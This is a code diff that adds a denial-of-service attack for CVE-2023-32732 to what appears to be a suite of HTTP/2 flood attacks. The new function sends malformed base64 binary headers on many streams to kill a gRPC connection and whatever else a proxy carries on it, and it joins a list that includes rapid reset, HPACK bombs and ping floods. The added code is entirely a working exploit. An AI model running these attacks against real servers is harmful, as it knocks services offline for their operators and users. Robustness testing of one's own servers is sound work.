@@ -113,7 +113,21 @@ def one_byte_data_frames(attack):
     attack.again(attempt)
 
 
+def bad_base64_headers(attack):
+    """CVE-2023-32732: such a call ends its connection, and with it what else a proxy sends over it."""
+    block = request_block(SERVICE + "Compute", field(b"x-bin", b"!"))
+
+    def attempt():
+        with attack.open(HELLO) as connection:
+            for stream in range(1, 100, 2):
+                connection.sendall(frame(HEADERS, END_HEADERS, stream, block))
+            connection.settimeout(1)
+            connection.recv(1 << 16)
+    attack.again(attempt)
+
+
 FLOODS = (
     window_updates_past_2_gib, empty_data_past_2_gib, continuation_without_end, headers_over_many_frames,
     hpack_length_without_end, hpack_string_too_long, hpack_bomb, streams_without_acknowledgement,
-    one_byte_data_frames, rapid_reset, ping_flood, settings_flood, garbage)
+    one_byte_data_frames, rapid_reset, ping_flood, settings_flood, bad_base64_headers,
+    garbage)
